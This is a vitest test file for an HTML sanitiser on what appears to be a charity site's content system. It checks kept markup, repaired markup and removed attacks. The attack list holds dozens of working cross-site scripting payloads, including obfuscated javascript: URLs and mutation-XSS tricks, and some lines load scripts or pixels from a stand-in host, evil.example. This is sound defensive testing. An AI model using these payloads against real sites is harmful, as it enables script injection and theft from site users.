import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

/** Every allowed tag, with every attribute in its one form; the output contains no other `<`. */
const allowedTag =
  /<\/?(?:p|b|strong|i|em|u|ul|ol|li|h3|h4|blockquote|a|figure|figcaption|table|thead|tbody|tr|th|td)>|<br>|<a href="\/[^"<>\s\\]*">|<a href="(?:https?:\/\/|mailto:)[^"<>\s\\]+" rel="noopener nofollow">|<img src="\/(?:pictures|media)\/[\w./-]+" alt="[^"<>]*">/gi;

const expectHarmless = (html: string) => {
  const clean = sanitiseHtml(html);
  expect(clean.replace(allowedTag, '')).not.toContain('<');
  expect(sanitiseHtml(clean)).toBe(clean);
  return clean;
};

const TABLE = '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>';
const CAPTION = '<table>a<tr><td>b</td></tr></table>';
const CELL = '<table><tr><td>a</td></tr></table>';
const OWN = '<img src="/media/a.webp" alt="">';

describe('sanitised HTML', () => {
  const kept = [
    '<p>Come at <strong>six</strong>, <em>not</em> at <b>seven</b>, <i>please</i>, <u>all</u>.<br>We begin.</p>',
    '<ul><li>Gloves</li><li>Water</li></ul><ol><li>First</li></ol>',
    '<h3>The morning</h3><p>Tea &amp; biscuits, 5 &lt; 6, ₹501, वृन्दावन</p><h4>After it</h4>',
    '<blockquote>Radhe Radhe, she said, "come in".</blockquote>',
    '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow">their site</a>',
    '<a href="mailto:seva@example.org" rel="noopener nofollow">write</a>',
    '<a href="/donate-us">give</a>',
    '<img src="/pictures/anna-vitran-1200.webp" alt="A row of plates">',
    '<img src="/media/01JD/ghat.webp" alt="">',
    'Plain words, and nothing else',
    '<figure><img src="/media/a.webp" alt="Lamps"><figcaption>Lamps at <em>dusk</em></figcaption></figure>',
    '<table><thead><tr><th>Meal</th><th>₹</th></tr></thead><tbody><tr><td>Dal</td><td>501</td></tr></tbody></table>',
  ];
  test.each(kept)('does not change clean HTML: %s', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  const mended: [what: string, html: string, clean: string][] = [
    [
      'a link without rel',
      '<a href="https://example.org">x</a>',
      '<a href="https://example.org" rel="noopener nofollow">x</a>',
    ],
    [
      'a link with another rel and a target',
      '<a href="https://example.org" rel="opener" target="_top">x</a>',
      '<a href="https://example.org" rel="noopener nofollow">x</a>',
    ],
    [
      'an address with blanks around it',
      '<a href=" /donate-us ">x</a>',
      '<a href="/donate-us">x</a>',
    ],
    ['a line break', 'one<br/>two<BR>three', 'one<br>two<br>three'],
    ['a picture without words', '<img src="/media/a.webp">', '<img src="/media/a.webp" alt="">'],
    ['an unclosed tag', '<p>one <b>two', '<p>one <b>two</b></p>'],
    ['tags that cross', '<b>one <i>two</b> three</i>', '<b>one <i>two</i></b> three'],
    ['headings of a page', '<h1>a</h1><h2>b</h2><h3>c</h3>', '<h3>a</h3><h4>b</h4><h4>c</h4>'],
    ['headings that begin low', '<h5>a</h5><p>b</p><h6>c</h6>', '<h3>a</h3><p>b</p><h4>c</h4>'],
    ['a heading that skips', '<h4>a</h4><h2>b</h2>', '<h3>a</h3><h3>b</h3>'],
    ['a table without ends', '<table><tr><td>a<td>b<tr><td>c', TABLE],
    [
      'a table with styles, widths and spans',
      '<table border=1 style="width:900px"><colgroup><col></colgroup><tr onclick=x><td colspan=2>a</td></tr></table>',
      '<table><tr><td>a</td></tr></table>',
    ],
    ['a caption of a table', '<table><caption>a</caption><tr><td>b</td></tr></table>', CAPTION],
    [
      'a figure with a foreign picture',
      '<figure><img src="https://elsewhere.example/a.png"><figcaption>a</figcaption></figure>',
      '<figure><figcaption>a</figcaption></figure>',
    ],
    ['signs', '1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
  ];
  test.each(mended)('repairs %s', (_what, html, clean) => {
    expect(expectHarmless(html)).toBe(clean);
  });

  const attacks: [what: string, html: string, clean: string][] = [
    ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['a script in capitals', '<ScRiPt SRC=//evil.example/x.js></sCrIpT>b', 'b'],
    ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['onerror', '<img src=x onerror=alert(1)>', ''],
    ['onerror on our own picture', '<img src="/media/a.webp" onerror="alert(1)">', OWN],
    ['onerror without blanks', '<img/src="/media/a.webp"/onerror=alert(1)>', OWN],
    ['onclick', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>', '<p>a</p>'],
    ['javascript:', '<a href="javascript:alert(1)">a</a>', 'a'],
    ['javascript: in mixed case', '<a href="JaVaScRiPt:alert(1)">a</a>', 'a'],
    ['javascript: in decimal entities', '<a href="&#106;&#97;vascript:alert(1)">a</a>', 'a'],
    ['javascript: in long entities', '<a href="&#x0000006Aavascript&colon;alert(1)">a</a>', 'a'],
    ['javascript: with a tab', '<a href="java\tscript:alert(1)">a</a>', 'a'],
    ['javascript: with a tab entity', '<a href="java&Tab;script:alert(1)">a</a>', 'a'],
    ['javascript: with line ends', '<a href="java\r\nscript:alert(1)">a</a>', 'a'],
    ['javascript: after blanks', '<a href=" \u0001 javascript:alert(1)">a</a>', 'a'],
    ['javascript: in a picture', '<img src="javascript:alert(1)">', ''],
    ['vbscript:', '<a href="vbscript:msgbox(1)">a</a>', 'a'],
    ['data: as a link', '<a href="data:text/html,<script>alert(1)</script>">a</a>', 'a'],
    ['data: as a picture', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', ''],
    ['svg with onload', '<svg onload=alert(1)><p>a</p></svg>b', 'b'],
    [
      'svg that animates a link',
      '<svg><a><animate attributeName=href values=javascript:1 /></a></svg>',
      '',
    ],
    ['style', '<style>body{background:url(//evil.example)}</style>a', 'a'],
    ['a style attribute', '<p style="position:fixed;inset:0">a</p>', '<p>a</p>'],
    ['a CSS expression', '<b style="width:expression(alert(1))">a</b>', '<b>a</b>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>a', 'a'],
    ['iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
    [
      'a form',
      '<form action="https://evil.example"><input name=pan><button>Go</button></form>',
      'Go',
    ],
    ['a formaction', '<button formaction="javascript:alert(1)">a</button>', 'a'],
    ['meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example">a', 'a'],
    ['base', '<base href="https://evil.example/">a', 'a'],
    ['a style sheet', '<link rel=stylesheet href="//evil.example/x.css">a', 'a'],
    ['object and embed', '<object data=x></object><embed src=x>a', 'a'],
    ['video and audio', '<video src=x onerror=alert(1)></video><audio src=x>a</audio>', 'a'],
    ['srcset', '<img src="/media/a.webp" srcset="//evil.example/x 2x">', OWN],
    ['a picture of another site', '<img src="https://evil.example/pixel.gif">', ''],
    ['a picture of another site, short', '<img src="//evil.example/pixel.gif">', ''],
    ['a picture that climbs', '<img src="/media/../api/post/get-posts">', ''],
    ['another site as a path', '<a href=//evil.example>a</a>', 'a'],
    ['another site behind a backslash', '<a href="/\\evil.example">a</a>', 'a'],
    ['another site behind a tab', '<a href="/\t/evil.example">a</a>', 'a'],
    ['another site behind backslashes', '<a href="https:\\\\evil.example">a</a>', 'a'],
    [
      'clobbering by id and name',
      '<a id=cookie name=body href="/x">a</a><img name=getElementById src="/media/a.webp">',
      `<a href="/x">a</a>${OWN}`,
    ],
    ['a class of ours', '<p class="fixed inset-0 bg-action">a</p>', '<p>a</p>'],
    ['a target', '<a href="/x" target="_blank" ping="//evil.example">a</a>', '<a href="/x">a</a>'],
    [
      'noscript that changes its meaning',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '',
    ],
    ['a template', '<template><script>alert(1)</script></template>a', 'a'],
    [
      'math that changes its meaning',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '',
    ],
    [
      'svg that changes its meaning',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '',
    ],
    [
      'a form that changes its meaning',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '',
    ],
    ['a title that ends early', '<title><b title="</title><img src=x onerror=alert(1)>">', '"&gt;'],
    [
      'text that shows as it stands',
      '<xmp><b title="</xmp><img src=x onerror=alert(1)>">',
      '"&gt;',
    ],
    ['a comment', '<!-- <img src=x onerror=alert(1)> -->a', 'a'],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->a', '--&gt;a'],
    ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
    ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>a', 'a'],
    ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>a', 'a'],
    ['a tag that never ends', 'a<img src=x onerror=alert(1) ', 'a'],
    ['an attribute that never ends', 'a<img src="x onerror=alert(1)', 'a'],
    ['NUL in a name', '<scr\0ipt>alert(1)</scr\0ipt>a', 'a'],
    ['NUL in an address', '<a href="java\0script:alert(1)">a</a>', 'a'],
    [
      'quotes in words for a picture',
      `<img src="/media/a.webp" alt='"onerror=alert(1) x="<b>'>`,
      '<img src="/media/a.webp" alt="&quot;onerror=alert(1) x=&quot;&lt;b&gt;">',
    ],
    [
      'entities that turn into tags',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    ],
    ['a custom element', '<x-evil is="a">a</x-evil>', 'a'],
    ['a marquee', '<marquee onstart=alert(1)>a</marquee>', 'a'],
    ['details', '<details open ontoggle=alert(1)>a</details>', 'a'],
    ['a script in a table', '<table><script>alert(1)</script><tr><td>a</td></tr></table>', CELL],
    [
      'a picture that a table moves out',
      '<table><tr><img src=x onerror=alert(1)></tr><td>a</td></table>',
      '<table><tr></tr><td>a</td></table>',
    ],
    [
      'a background of a table',
      '<table background="//evil.example"><tr><td>a</td></tr></table>',
      CELL,
    ],
    [
      'a style in a cell that closes it',
      '<table><td><style></td></table><img src=x onerror=alert(1)></style>a</td></table>',
      '<table><td>a</td></table>',
    ],
    [
      'a figure that is a button',
      '<figure onclick=alert(1) tabindex=0 contenteditable><figcaption style="x">a</figcaption></figure>',
      '<figure><figcaption>a</figcaption></figure>',
    ],
    ['body', '<body onload=alert(1) background="//evil.example">a', 'a'],
  ];
  test.each(attacks)('removes %s', (_what, html, clean) => {
    expect(expectHarmless(html)).toBe(clean);
  });

  test('limits nesting', () => {
    const deep = expectHarmless(`${'<ul><li>'.repeat(5000)}a`);
    expect(deep.length).toBeLessThan(500);
    expect(deep).toContain('a');
  });

  const piece = fc.oneof(
    fc.constantFrom(...attacks.map(([, html]) => html), ...kept),
    fc.constantFrom('<', '>', '"', "'", '</', '<!--', '-->', '&', '&#', '/', '=', '\0', '\t', '`'),
    fc.constantFrom('<p ', '<a href=', '<img src="/media/', '</p>', '<svg>', '</style>', ']]>'),
    fc.constantFrom('<table>', '<tr>', '<td>', '</td>', '</table>', '<figure>', '<figcaption>'),
    fc.string({ maxLength: 8, unit: 'grapheme' }),
  );
  test('outputs only allowed tags for any input, and is idempotent', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expectHarmless(pieces.join(''));
      }),
      { numRuns: 400 },
    );
  });
});
